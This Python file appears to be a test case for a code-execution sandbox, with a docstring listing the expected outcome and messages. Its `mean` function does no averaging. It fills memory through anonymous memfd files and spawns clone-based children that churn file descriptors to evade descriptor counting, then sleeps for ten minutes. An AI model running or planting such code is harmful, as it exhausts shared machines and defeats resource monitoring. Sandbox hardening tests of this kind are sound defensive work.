"""Fill the memory with files without a name while other descriptors open and close, which ends the count of them.

outcome: not_yet
says: MB in files | your code raised PermissionError | processor time | waited for
class: resources
"""

import ctypes
import os
import signal
import time

BLOCK = b"x" * (16 << 20)
CLONE, CLONE_FILES = {"x86_64": 56, "aarch64": 220}[os.uname().machine], 0x400


def flicker(first):
    while True:
        for opened, closed in ((first, first + 20), (first + 20, first)):
            for number in range(opened, opened + 20):
                os.dup2(1, number)
            os.closerange(closed, closed + 20)


def mean(values, weights=None):
    for number in range(7):
        os.dup2(os.memfd_create("none"), 200 + number)
    os.closerange(4, 200)
    for first in (10, 50, 90, 130):  # processes that share one table of descriptors
        if ctypes.CDLL(None).syscall(CLONE, CLONE_FILES | signal.SIGCHLD, 0, 0, 0, 0) == 0:
            flicker(first)
    for _ in range(15):
        for number in range(7):
            os.write(200 + number, BLOCK)
    time.sleep(600)
